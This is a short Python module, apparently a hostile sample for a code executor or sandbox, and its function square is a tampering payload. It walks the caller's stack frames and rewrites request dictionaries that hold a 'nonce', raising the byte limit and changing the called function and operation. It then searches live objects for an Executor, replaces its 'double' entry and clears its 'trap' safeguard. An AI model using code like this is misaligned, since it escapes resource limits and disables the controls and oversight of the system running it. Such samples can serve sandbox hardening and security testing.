"""Reaches into the frames above it: the call, its arguments, its bounds, the executor's names."""
import gc
import sys


def double(x):
    return 2 * x


def square(x):
    frame = sys._getframe().f_back
    while frame:
        for value in list(frame.f_locals.values()):
            if type(value) is dict and "nonce" in value:
                value.update(max_bytes=1 << 40, function="double", op="load")
        frame = frame.f_back
    for item in gc.get_objects():
        if type(item).__name__ == "Executor":
            item._names["double"] = square
            item.trap = ()
    return x
